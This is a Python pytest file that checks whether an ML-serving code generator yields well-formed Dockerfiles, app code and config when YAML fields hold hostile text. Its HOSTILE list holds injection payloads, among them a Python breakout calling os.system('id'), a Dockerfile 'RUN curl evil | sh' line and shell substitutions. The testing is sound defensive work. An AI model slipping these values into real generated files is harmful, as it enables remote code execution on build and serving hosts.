"""What is generated for an endpoint is valid, whatever people write in their YAML."""

from __future__ import annotations

import ast
import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mvops import __version__, backends
from mvops.contracts.servers import Server, Service

SERVER: Server = backends.load("servers", "fastapi")

HOSTILE = [
    'x"""\nimport os\nos.system("id")\n"""',
    "'''; import os #",
    "{{ 7 * 7 }}{% raw %}",
    "a\nRUN curl evil | sh",
    "a\r\nFROM evil",
    '", "root": "/',
    "\\",
    "\x00\x1b[31m\u2028\u2029\x85",
    "${HOME} `id` $(id) %",
    "</script><b>",
    "日本語 🚀",
]


def service(**changes: object) -> Service:
    plain = {
        "model": "churn",
        "description": "Will they leave?",
        "host": "127.0.0.1",
        "port": 8123,
        "max_rows": 50,
        "state": ".mvops/serving/churn",
        "artifacts": ".mvops/artifacts",
        "predictions": "sqlite:///.mvops/predictions.db",
        "python": "3.11",
        "requirements": ("scikit-learn==1.6.1", "pandas==2.2.3"),
    }
    return Service.model_validate(plain | changes)


PLAIN = SERVER.files(service())


def instructions(dockerfile: str) -> list[str]:
    return [line.split()[0] for line in dockerfile.splitlines() if re.match(r"[A-Z]+ ", line)]


def test_the_files_and_where_they_go() -> None:
    assert SERVER.folder("churn") == "deploy/serving/churn"
    assert sorted(PLAIN) == [
        *("Dockerfile", "Dockerfile.dockerignore", "README.md"),
        *("app.py", "loadtest.py", "requirements.txt", "service.json"),
    ]
    assert json.loads(PLAIN["service.json"]) == {
        "format_version": 1,
        "model": "churn",
        "root": "../../..",
        "state": ".mvops/serving/churn",
        "artifacts": ".mvops/artifacts",
        "predictions": "sqlite:///.mvops/predictions.db",
        "max_rows": 50,
    }
    assert PLAIN["requirements.txt"].splitlines()[1:] == [
        f"mvops[serve]=={__version__}",
        "scikit-learn==1.6.1",
        "pandas==2.2.3",
    ]
    assert "FROM python:3.11-slim\n" in PLAIN["Dockerfile"]
    assert "EXPOSE 8123\n" in PLAIN["Dockerfile"]


def test_the_app_is_python_and_takes_the_yamls_address() -> None:
    tree = ast.parse(PLAIN["app.py"])
    assert ast.get_docstring(tree)
    constants = {node.value for node in ast.walk(tree) if isinstance(node, ast.Constant)}
    assert {"127.0.0.1", 8123} <= constants


def test_the_same_service_gives_the_same_files() -> None:
    assert SERVER.files(service()) == PLAIN


def check_shape(changed: Service) -> None:
    files = SERVER.files(changed)
    assert sorted(files) == sorted(PLAIN)
    assert ast.dump(ast.parse(files["app.py"])) == ast.dump(ast.parse(PLAIN["app.py"]))
    expected = json.loads(PLAIN["service.json"])
    expected |= {key: getattr(changed, key) for key in ("state", "artifacts", "predictions")}
    assert json.loads(files["service.json"]) == expected
    assert files["Dockerfile"] == PLAIN["Dockerfile"]
    assert len(files["README.md"].splitlines()) == len(PLAIN["README.md"].splitlines())


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("field", ["description", "artifacts", "predictions", "state"])
def test_hostile_text_changes_no_shape(field: str, text: str) -> None:
    check_shape(service(**{field: text}))


@settings(max_examples=50)
@given(st.text(max_size=60), st.text(max_size=60))
def test_any_text_changes_no_shape(description: str, predictions: str) -> None:
    check_shape(service(description=description, predictions=predictions))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_host_stays_one_constant(text: str) -> None:
    tree = ast.parse(SERVER.files(service(host=text))["app.py"])
    plain = ast.parse(PLAIN["app.py"])
    assert [type(node) for node in ast.walk(tree)] == [type(node) for node in ast.walk(plain)]
    assert text in {node.value for node in ast.walk(tree) if isinstance(node, ast.Constant)}


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_requirement_stays_one_line(text: str) -> None:
    files = SERVER.files(service(requirements=(text, "pandas==2.2.3")))
    assert len(files["requirements.txt"].splitlines()) == len(PLAIN["requirements.txt"].splitlines())
    assert instructions(files["Dockerfile"]) == instructions(PLAIN["Dockerfile"])
